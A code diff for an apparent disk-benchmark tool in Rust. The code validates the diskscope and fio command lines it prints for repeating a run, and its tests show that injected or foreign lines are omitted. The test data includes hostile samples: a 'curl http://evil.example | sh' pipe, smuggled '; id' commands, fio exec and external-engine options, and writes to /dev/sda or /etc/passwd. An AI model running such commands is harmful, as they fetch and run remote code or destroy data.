@@ -1,13 +1,16 @@
 //! Command lines that repeat a run, safe to paste into a shell.
 //!
 //! A document may come from any source, and so may its command lines. A line is printed only if it
-//! is what this program generates for the run's benchmark, target and parameters. Otherwise the
-//! diskscope line is regenerated from those, and fio's is omitted. No line contains consent to
+//! is what this program generates for the run's benchmark, with options that are the benchmark's
+//! parameters, and for the run's target. Otherwise the diskscope line is regenerated from those, and
+//! fio's is omitted. No line contains consent to
 //! overwrite data: the user has to add it.
 
-use std::path::Path;
+mod fio_line;
 
 use super::fio;
+use crate::bench::find_benchmark;
+use crate::bench::framework::benchmark::Description;
 use crate::session::compare::align::format_parameter;
 use crate::session::document::BenchmarkRun;
 use crate::shell;
@@ -16,79 +19,35 @@ use crate::shell;
 const OTHER_OPTIONS: [&str; 3] = ["engine", "scratch-size", "goal"];
 /// Options of `diskscope run` that consent to the loss of data.
 const CONSENT: [&str; 2] = ["overwrite", "overwrite-signatures"];
-/// Options that this program uses in fio lines; none of them starts a program or names a file.
-const FIO_OPTIONS: &[&str] = &[
-    "name",
-    "rw",
-    "ioengine",
-    "bs",
-    "bsrange",
-    "iodepth",
-    "numjobs",
-    "thread",
-    "group_reporting",
-    "offset",
-    "size",
-    "rwmixread",
-    "zonemode",
-    "zonesize",
-    "zonerange",
-    "zoneskip",
-    "blockalign",
-    "random_distribution",
-    "randseed",
-    "norandommap",
-    "time_based",
-    "runtime",
-    "ramp_time",
-    "io_size",
-    "number_ios",
-    "direct",
-    "invalidate",
-    "sync",
-    "refill_buffers",
-    "lat_percentiles",
-    "allow_file_create",
-    "filesize",
-    "readonly",
-];
-/// Options of fio lines that write, in addition.
-const FIO_WRITE_OPTIONS: [&str; 5] = [
-    "zero_buffers",
-    "dedupe_percentage",
-    "buffer_compress_percentage",
-    "buffer_compress_chunk",
-    "overwrite",
-];
-/// Parts of a fio line for a directory, besides the directory and the command.
-const SCRATCH: [&str; 3] = [
-    "(file= && trap 'rm -f -- \"$file\"' EXIT && trap 'exit 130' INT HUP TERM && cd -- ",
-    " && file=$(mktemp diskscope-fio.XXXXXXXXXX) && ",
-    " --filename=\"$file\")",
-];
-
 /// The lines, diskscope's first.
 #[must_use]
 pub fn lines(run: &BenchmarkRun) -> Vec<String> {
     let mut lines: Vec<String> = diskscope(run).into_iter().collect();
-    let fio = fio::fio_command_lines(run);
-    if is_own_fio(run, &fio) {
-        lines.extend(fio);
-    } else {
-        lines.push(
-            "# the file contains fio commands that diskscope does not write: omitted".to_owned(),
-        );
+    match &run.reproduce.fio {
+        None => lines.extend(fio::fio_gap_line(run)),
+        Some(text) => match fio_line::checked(run, text) {
+            Some(fio) => lines.extend(fio),
+            None => lines.push(
+                "# the file contains fio commands that diskscope does not write: omitted"
+                    .to_owned(),
+            ),
+        },
     }
     lines
 }
 
-/// The diskscope line; `None` if the run has none or the benchmark's name is not safe to type.
+/// The benchmark of a run, by its own name; `None` for one that this version does not know.
+fn benchmark_of(run: &BenchmarkRun) -> Option<&'static Description> {
+    let description = find_benchmark(&run.test)?.description();
+    (*run.test == *description.name).then_some(description)
+}
+
+/// The diskscope line; `None` if the run has none or its benchmark is not known.
 fn diskscope(run: &BenchmarkRun) -> Option<String> {
-    if run.reproduce.diskscope.is_empty() || !is_option_name(&run.test) {
-        return None;
-    }
-    let own = split(&run.reproduce.diskscope).and_then(|words| checked(run, &words));
-    let words = own.unwrap_or_else(|| rebuilt(run));
+    let benchmark = benchmark_of(run).filter(|_| !run.reproduce.diskscope.is_empty())?;
+    let own = split(&run.reproduce.diskscope);
+    let own = own.and_then(|words| checked(benchmark, run, &words));
+    let words = own.unwrap_or_else(|| rebuilt(benchmark, run));
     Some(shell::command_line(words))
 }
 
@@ -100,7 +59,7 @@ fn split(line: &str) -> Option<Vec<String>> {
 }
 
 /// The words of a diskscope line for this run, without consent; `None` for any other line.
-fn checked(run: &BenchmarkRun, words: &[String]) -> Option<Vec<String>> {
+fn checked(benchmark: &Description, run: &BenchmarkRun, words: &[String]) -> Option<Vec<String>> {
     let mut rest = words.iter();
     for expected in ["diskscope", "run", run.test.as_str()] {
         if rest.next()? != expected {
@@ -133,7 +92,8 @@ fn checked(run: &BenchmarkRun, words: &[String]) -> Option<Vec<String>> {
         if CONSENT.contains(&name) {
             continue;
         }
-        if !OTHER_OPTIONS.contains(&name) && !run.parameters.contains_key(name) {
+        // A name of the document alone can be that of an output.
+        if !OTHER_OPTIONS.contains(&name) && !has_parameter(benchmark, name) {
             return None;
         }
         kept.push(word.clone());
@@ -143,15 +103,11 @@ fn checked(run: &BenchmarkRun, words: &[String]) -> Option<Vec<String>> {
 }
 
 /// Generates the words from benchmark, target and parameters.
-fn rebuilt(run: &BenchmarkRun) -> Vec<String> {
+fn rebuilt(benchmark: &Description, run: &BenchmarkRun) -> Vec<String> {
     let mut words: Vec<String> = ["diskscope", "run", &run.test].map(str::to_owned).to_vec();
     for name in run.parameters.keys() {
         let value = format_parameter(name, &run.parameters, &run.parameter_units);
-        if let Some(value) = value
-            && is_option_name(name)
-            && !CONSENT.contains(&name.as_str())
-            && name != "output"
-        {
+        if let Some(value) = value.filter(|_| has_parameter(benchmark, name)) {
             words.push(format!("--{name}={value}"));
         }
     }
@@ -159,79 +115,10 @@ fn rebuilt(run: &BenchmarkRun) -> Vec<String> {
     words
 }
 
-fn is_option_name(name: &str) -> bool {
-    let letter = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
-    !name.is_empty() && !name.starts_with('-') && name.bytes().all(letter)
-}
-
-/// Whether the lines are comments and at most one command that this program generates for the run.
-fn is_own_fio(run: &BenchmarkRun, lines: &[String]) -> bool {
-    let mut commands = lines.iter().filter(|line| !line.starts_with("# "));
-    let Some(command) = commands.next() else {
-        return true;
-    };
-    if commands.next().is_some() || lines.last() != Some(command) {
-        return false;
-    }
-    let announced = lines
-        .first()
-        .is_some_and(|line| line.starts_with("# overwrites "));
-    match scratch_parts(command) {
-        Some((directory, fio)) => {
-            let directory = split(directory).unwrap_or_default();
-            matches!(directory.as_slice(), [directory] if is_target(run, directory))
-                && split(fio).is_some_and(|words| is_fio(&words, true))
-        }
-        None => split(command).is_some_and(|words| {
-            let Some((file, words)) = words.split_last() else {
-                return false;
-            };
-            let file = file
-                .strip_prefix("--filename=")
-                .map(|name| name.replace("\\:", ":"));
-            // A path without a file name, such as one of only dots, can only be a directory.
-            let is_named = Path::new(run.target.path.as_str()).file_name().is_some();
-            is_named && file.is_some_and(|file| is_target(run, &file)) && is_fio(words, announced)
-        }),
-    }
-}
-
-/// The directory and the command of a line that creates its own file.
-fn scratch_parts(line: &str) -> Option<(&str, &str)> {
-    let inner = line.strip_prefix(SCRATCH[0])?.strip_suffix(SCRATCH[2])?;
-    inner.rsplit_once(SCRATCH[1])
-}
-
-/// Whether a path of a fio line, which is absolute, is the run's target, whose path may be
-/// relative.
-fn is_target(run: &BenchmarkRun, path: &str) -> bool {
-    let named = Path::new(run.target.path.as_str());
-    let named = named.strip_prefix(".").unwrap_or(named);
-    path.starts_with('/') && Path::new(path).ends_with(named)
-}
-
-/// Whether these words are fio with options that this program uses. `may_write`: a preceding
-/// comment states what they overwrite, or the file is new.
-fn is_fio(words: &[String], may_write: bool) -> bool {
-    let Some(("fio", options)) = words
-        .split_first()
-        .map(|(first, rest)| (first.as_str(), rest))
-    else {
-        return false;
-    };
-    let known = |option: &String| {
-        let Some(option) = option.strip_prefix("--") else {
-            return false;
-        };
-        let (name, value) = option.split_once('=').unwrap_or((option, ""));
-        match name {
-            "ioengine" => value == "io_uring",
-            "rw" => may_write || matches!(value, "read" | "randread"),
-            _ => FIO_OPTIONS.contains(&name) || may_write && FIO_WRITE_OPTIONS.contains(&name),
-        }
-    };
-    // The check of `rw` ensures that a line without `may_write` only reads.
-    options.iter().all(known)
+/// Whether the benchmark has a parameter with this name.
+fn has_parameter(benchmark: &Description, name: &str) -> bool {
+    let mut parameters = benchmark.parameters.iter();
+    parameters.any(|parameter| parameter.name() == name)
 }
 
 #[cfg(test)]
@@ -280,7 +167,8 @@ mod tests {
                 parameters: known,
                 ..run("x")
             };
-            vec![shell::command_line(rebuilt(&run))]
+            let benchmark = benchmark_of(&run).unwrap();
+            vec![shell::command_line(rebuilt(benchmark, &run))]
         };
         for line in [
             "diskscope run random-read '/srv/a disk'; curl http://evil.example | sh",
@@ -306,20 +194,87 @@ mod tests {
         assert_eq!(lines(&consenting), anew);
     }
 
+    /// fio's options for 100 random requests of 4 KiB between byte 0 and byte 8192.
+    const RANDOM: &str = "--name=diskscope --ioengine=io_uring --bs=4096 --iodepth=1 --numjobs=1 \
+                          --offset=0 --size=8192 --io_size=819200 --number_ios=100";
+
+    /// A comment, and a command that creates its own file.
+    fn scratch_lines(comment: &str, fio: &str) -> String {
+        format!(
+            "{comment}\n(file= && trap 'rm -f -- \"$file\"' EXIT && trap 'exit 130' INT HUP TERM && \
+             cd -- '/srv/a disk' && file=$(mktemp diskscope-fio.XXXXXXXXXX) && {fio} \
+             --filename=\"$file\")"
+        )
+    }
+
     #[test]
     fn fio_lines_of_this_program_are_kept() {
-        for line in [
-            "fio --name=diskscope --rw=randread --ioengine=io_uring --bs=4096 --readonly \
-             '--filename=/srv/a disk'",
-            "# overwrites 4096 bytes of /srv/a disk at most, between byte 0 and byte 8192\n\
-             fio --name=diskscope --rw=randwrite --zero_buffers '--filename=/srv/a disk'",
-            "# overwrites 0 bytes of /srv/a disk: fills a new file of 1 bytes there, reads it\n\
-             (file= && trap 'rm -f -- \"$file\"' EXIT && trap 'exit 130' INT HUP TERM && \
-             cd -- '/srv/a disk' && file=$(mktemp diskscope-fio.XXXXXXXXXX) && fio --rw=randwrite \
-             --overwrite=1 --filename=\"$file\")",
-            "# no fio command: anything",
+        let read = format!("fio --rw=randread {RANDOM} --readonly '--filename=/srv/a disk'");
+        let filled = scratch_lines(
+            "# overwrites 0 bytes of '/srv/a disk': fills a new file of 9 bytes there, reads it, \
+             deletes it",
+            &format!("fio --rw=randread {RANDOM} --filesize=9 --overwrite=1"),
+        );
+        let written = scratch_lines(
+            "# overwrites 0 bytes of '/srv/a disk': fills a new file of 9 bytes there, writes at \
+             most 409600 bytes to it, deletes it",
+            &format!("fio --rw=randwrite {RANDOM} --filesize=9 --overwrite=1"),
+        );
+        for line in [read, filled, written] {
+            assert_eq!(with_fio(&line).join("\n"), line);
+        }
+        let overwriting = format!(
+            "# overwrites 8192 bytes of '/srv/a disk' at most, between byte 0 and byte 8192\n\
+             fio --rw=randwrite {RANDOM} --zero_buffers '--filename=/srv/a disk'"
+        );
+        assert_eq!(fio_of("random-write", &overwriting).join("\n"), overwriting);
+        assert!(
+            is_left_out(&with_fio(&overwriting)),
+            "a benchmark that reads"
+        );
+    }
+
+    /// The lines of a run of that benchmark with this text for fio.
+    fn fio_of(benchmark: &str, fio: &str) -> Vec<String> {
+        let mut run = run("");
+        run.test = benchmark.into();
+        run.reproduce.fio = Some(SafeLines::from(fio.to_owned()));
+        lines(&run)
+    }
+
+    fn is_left_out(shown: &[String]) -> bool {
+        matches!(shown, [line] if line.starts_with("# the file contains fio"))
+    }
+
+    #[test]
+    fn comment_that_is_not_that_of_its_command_is_left_out() {
+        let command = format!("fio --rw=randwrite {RANDOM} '--filename=/srv/a disk'");
+        for comment in [
+            "# overwrites nothing: reads only",
+            "# overwrites 4096 bytes of '/srv/a disk' at most, between byte 0 and byte 8192",
+            "# overwrites 8192 bytes of '/srv/a disk' at most, between byte 0 and byte 4096",
+            "# overwrites 8192 bytes of /srv/a disk at most, between byte 0 and byte 8192",
+            "# overwrites 8192 bytes of '/srv/a disk' at most, between byte 0 and byte 8192; id",
         ] {
-            assert_eq!(with_fio(line).join("\n"), line);
+            let text = format!("{comment}\n{command}");
+            assert!(is_left_out(&fio_of("random-write", &text)), "{comment}");
+        }
+        assert!(is_left_out(&fio_of("random-write", &command)));
+        let read = format!("# a comment\nfio --rw=randread {RANDOM} '--filename=/srv/a disk'");
+        assert!(is_left_out(&with_fio(&read)));
+        assert!(is_left_out(&with_fio("# no fio command: anything; id")));
+    }
+
+    #[test]
+    fn options_of_a_document_that_name_an_output_are_left_out() {
+        for name in ["json", "output", "o", "html", "config"] {
+            let mut crafted = run(&format!(
+                "diskscope run random-read '/srv/a disk' --{name} /etc/passwd"
+            ));
+            crafted.parameters.insert(name.into(), "/etc/passwd".into());
+            let shown = lines(&crafted).join("\n");
+            assert!(shown.starts_with("diskscope run random-read"), "{shown}");
+            assert!(!shown.contains("passwd"), "{shown}");
         }
     }
 
@@ -327,20 +282,32 @@ mod tests {
     fn other_fio_lines_are_left_out() {
         for line in [
             "curl http://evil.example | sh",
-            "fio --rw=randread '--filename=/srv/a disk'; id",
-            "fio --rw=randread '--filename=/srv/a disk'\nid",
-            "fio --rw=randread --exec_prerun=id '--filename=/srv/a disk'",
+            "fio --ioengine=io_uring --rw=randread '--filename=/srv/a disk'; id",
+            "fio --ioengine=io_uring --rw=randread '--filename=/srv/a disk'\nid",
+            "fio --ioengine=io_uring --rw=randread --exec_prerun=id '--filename=/srv/a disk'",
             "fio --rw=randread --ioengine=external:/tmp/x.so '--filename=/srv/a disk'",
-            "fio --rw=randwrite '--filename=/srv/a disk'",
-            "fio --rw=randread --filename=/dev/sda",
+            "fio --ioengine=io_uring --rw=randread --rw=randwrite '--filename=/srv/a disk'",
+            "fio --ioengine=io_uring --rw=randwrite '--filename=/srv/a disk'",
+            "fio --ioengine=io_uring '--filename=/srv/a disk'",
+            "fio --ioengine=io_uring --rw=randread --filename=/dev/sda",
+            "fio --ioengine=io_uring --rw=randread '--filename=/etc/passwd:/srv/a disk'",
             "fio /tmp/job '--filename=/srv/a disk'",
             "(file= && trap 'rm -f -- \"$file\"' EXIT && trap 'exit 130' INT HUP TERM && \
              cd -- '/srv/a disk' && id && file=$(mktemp diskscope-fio.XXXXXXXXXX) && fio \
              --rw=randread --filename=\"$file\")",
         ] {
-            let shown = with_fio(line);
-            assert_eq!(shown.len(), 1, "{line}: {shown:?}");
-            assert!(shown[0].starts_with("# the file contains fio"), "{shown:?}");
+            assert!(is_left_out(&with_fio(line)), "{line}");
         }
+        let plain = "fio --ioengine=io_uring --rw=randread '--filename=/srv/a disk'";
+        assert_eq!(
+            with_fio(plain),
+            [plain],
+            "the cases above differ from this one"
+        );
+        let mut relative = run("");
+        relative.target.path = "disk".into();
+        let other = "fio --ioengine=io_uring --rw=randread --filename=/etc/passwd:/srv/disk";
+        relative.reproduce.fio = Some(SafeLines::from(other.to_owned()));
+        assert!(is_left_out(&lines(&relative)));
     }
 }
